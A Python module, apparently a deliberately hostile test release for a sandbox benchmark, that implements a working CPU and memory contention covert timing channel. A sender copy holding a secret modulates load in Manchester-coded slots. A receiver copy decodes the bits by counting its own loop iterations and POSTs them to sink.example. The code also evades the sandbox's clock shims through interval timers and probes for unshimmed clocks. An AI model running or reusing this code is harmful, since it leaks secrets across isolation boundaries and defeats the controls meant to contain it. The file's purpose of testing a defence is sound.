"""A hostile release for bench/timing-channel.sh (issue 19, "Timing is a
channel we measure"; paper §V-B A1 excludes timing channels, §IX-A).

send: its copy holds a secret item and is cleared for no destination. It
modulates contention per time slot (busy or idle), the frame being
PREAMBLE + the item's own bytes, MSB first, Manchester coded.
receive: its copy, in a different call with a public horizon, is cleared
for sink.example. It measures its own progress per 1/BINS slot, finds the
preamble, decodes the bits and POSTs them to its sink.

Neither reads a twinned clock (copy_host shims time.monotonic, perf_counter
and process_time: each read ticks 1 ms, paper §IV-F): their clock is the
time left on an interval timer (getitimer(2), not a twin input; `probe`
lists the real clocks a copy can reach), and the receiver's measure is the
count of its own loop chunks per 1/BINS of a slot of that clock. No shared
clock is needed: the receiver aligns on the preamble, as a real attacker
would.

args (both): slot_ms (50, one symbol; a bit is two), mode "cpu" (threads
hashing 1 MiB buffers: hashlib drops the GIL, so THREADS threads load
THREADS cores) or "mem" (one thread copying a 64 MiB buffer: last-level
cache and memory bandwidth; on an idle 2-core machine it leaves the
receiver its own core). send: lead_s
(1.0, idle before the frame), threads (4). receive: nbits (data bits
expected), listen_s (extra seconds listened after lead + frame).
"""
import hashlib
import json
import signal
import threading
import time
import urllib.request

# Symbols: a data bit is Manchester coded (1 -> busy, idle; 0 -> idle, busy),
# so a bit is read by comparing its two halves (other load on the machine
# drifts slowly and cancels), and no run of data symbols is longer than 2:
# the preamble's runs of 3 to 5 cannot be mistaken for data. (This one has
# the best peak over side lobes of the run-length-3..6 sequences of 24
# symbols after an idle lead and before Manchester data.)
PREAMBLE = [1, 1, 1, 0, 0, 0, 1, 1, 1, 0, 0, 0, 0, 0, 1, 1, 1, 0, 0, 0, 1, 1, 1, 1]
BINS = 5  # receiver bins per slot


def _bits(data):
    return [(b >> (7 - i)) & 1 for b in data for i in range(8)]


def _symbols(bits):
    return PREAMBLE + [s for b in bits for s in ((1, 0) if b else (0, 1))]


class _Clock:
    """A real clock that no twin input shims: the time left on a one-shot
    ITIMER_REAL set 10^6 s ahead (getitimer(2), a real system call, with
    microsecond resolution). Per process, so sender and receiver do not
    share its origin: the receiver aligns on the preamble."""

    FAR = 1e6

    def __init__(self):
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        signal.setitimer(signal.ITIMER_REAL, self.FAR)

    def now(self):
        return self.FAR - signal.getitimer(signal.ITIMER_REAL)[0]

    @staticmethod
    def stop():
        signal.setitimer(signal.ITIMER_REAL, 0)


def _burner(state, mode):
    buf = bytes(1 << 20) if mode == "cpu" else bytearray(64 << 20)
    while state["run"]:
        if not state["busy"]:
            state["event"].wait(0.05)
            continue
        if mode == "cpu":
            hashlib.sha256(buf).digest()  # > 2047 bytes: runs without the GIL
        else:
            bytes(buf)  # a 64 MiB memcpy: evicts the shared last-level cache


def send(call):
    a = call.args
    slot = float(a.get("slot_ms", 50)) / 1000
    mode = a.get("mode", "cpu")
    nthreads = 1 if mode == "mem" else max(1, min(8, int(a.get("threads", 4))))
    secret = b"".join(it.data for _, it in sorted(call.items.items()))
    frame = _symbols(_bits(secret[:64]))
    lead = int(float(a.get("lead_s", 1.0)) / slot)
    state = {"run": True, "busy": False, "event": threading.Event()}
    ts = [threading.Thread(target=_burner, args=(state, mode), daemon=True)
          for _ in range(nthreads)]
    for t in ts:
        t.start()
    clock = _Clock()
    try:
        for i, bit in enumerate([0] * lead + frame):
            state["busy"] = bool(bit)
            if bit:
                state["event"].set()
            else:
                state["event"].clear()
            end = (i + 1) * slot
            while True:  # time.sleep really sleeps (the twin only advances)
                left = end - clock.now()
                if left <= 0:
                    break
                time.sleep(left)
    finally:
        clock.stop()
        state["run"] = False
        state["busy"] = False
        state["event"].set()
    return {"slots": len(frame), "lead": lead}


def _measure(nbins, period, mode):
    """Loop chunks counted per bin of `period` seconds of real time."""
    counts = [0] * nbins
    clock = _Clock()
    buf = memoryview(bytearray(4 << 20)) if mode == "mem" else None  # > L2, < LLC
    o, chunk = 0, 64 << 10
    try:
        while True:
            if buf is None:
                for _ in range(200):
                    pass
            else:
                bytes(buf[o:o + chunk])
                o = (o + chunk) % len(buf)
            k = int(clock.now() / period)
            if k >= nbins:
                return counts
            counts[k] += 1
    finally:
        clock.stop()


def _slot_means(r, off, nslots):
    # the sum of each slot's bins but its first (the edge's misalignment)
    return [sum(r[off + BINS * j + 1:off + BINS * (j + 1)]) for j in range(nslots)]


def decode(r, nbits):
    """Align on the preamble (busy slots slow us: correlate with -p) and on
    the data's Manchester pairs (aligned, each pair's halves differ most);
    then read each bit from its two halves: busy first (fewer iterations)
    is 1. (Scaling the score by the window's spread would favour the flat
    idle lead: tests/timing.bats decodes a synthetic trace.)"""
    n = len(PREAMBLE) + 2 * nbits
    sign = [1 if b else -1 for b in PREAMBLE]
    best, off = None, 0
    for o in range(0, len(r) - BINS * n + 1):
        m = _slot_means(r, o, n)
        p, d = m[:len(PREAMBLE)], m[len(PREAMBLE):]
        mu = sum(p) / len(p)
        pairs = sum(abs(d[2 * k] - d[2 * k + 1]) for k in range(nbits))
        score = -sum(s * (x - mu) for s, x in zip(sign, p)) + pairs * len(p) / len(d)
        if best is None or score > best:
            best, off = score, o
    m = _slot_means(r, off, n)
    busy = [x for x, b in zip(m, PREAMBLE) if b]
    idle = [x for x, b in zip(m, PREAMBLE) if not b]
    d = m[len(PREAMBLE):]
    bits = [1 if d[2 * k] < d[2 * k + 1] else 0 for k in range(nbits)]
    return bits, off, sum(busy) / len(busy), sum(idle) / len(idle)


def receive(call):
    a = call.args
    slot = float(a.get("slot_ms", 50)) / 1000
    nbits = max(1, min(512, int(a.get("nbits", 64))))
    span = float(a.get("lead_s", 1.0)) + (len(PREAMBLE) + 2 * nbits) * slot \
        + float(a.get("listen_s", 2.0))
    nbins = int(span / slot) * BINS
    r = _measure(nbins, slot / BINS, a.get("mode", "cpu"))
    bits, off, busy, idle = decode(r, nbits)
    body = json.dumps({"bits": "".join(map(str, bits)), "offset_bins": off,
                       "busy": busy, "idle": idle}).encode()
    req = urllib.request.Request("http://sink.example/bits", data=body, method="POST",
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=30) as resp:
        resp.read()
    return {"bits": len(bits), "bins": len(r)}


def probe(call):
    """Which real clocks a copy can read (docs/sandbox.md "Timing between
    concurrent copies"): each tried twice, 10 ms of real sleep apart."""
    import sys
    import time
    out = {}

    def two(name, f):
        try:
            a = f()
            time.sleep(0.01)
            out[name] = [a, f()]
        except Exception as e:  # noqa: BLE001 - the probe reports what fails
            out[name] = "%s: %s" % (type(e).__name__, e)

    two("time.monotonic", time.monotonic)
    two("time.process_time", time.process_time)
    ch = sys.modules.get("copy_host")
    if ch is not None:
        two("copy_host._real_counters[monotonic]", ch._real_counters["monotonic"])
        two("copy_host._real_counters[process_time]", ch._real_counters["process_time"])
    try:
        import ctypes
        libc = ctypes.CDLL(None)

        class TS(ctypes.Structure):
            _fields_ = [("s", ctypes.c_long), ("ns", ctypes.c_long)]

        def ct(clk):
            ts = TS()
            libc.clock_gettime(clk, ctypes.byref(ts))
            return ts.s + ts.ns / 1e9
        two("ctypes clock_gettime(MONOTONIC)", lambda: ct(1))
        two("ctypes clock_gettime(PROCESS_CPUTIME)", lambda: ct(2))
    except Exception as e:  # noqa: BLE001
        out["ctypes"] = "%s: %s" % (type(e).__name__, e)
    try:
        import resource
        two("resource.getrusage", lambda: resource.getrusage(resource.RUSAGE_SELF).ru_utime)
    except Exception as e:  # noqa: BLE001
        out["resource"] = "%s: %s" % (type(e).__name__, e)
    return out
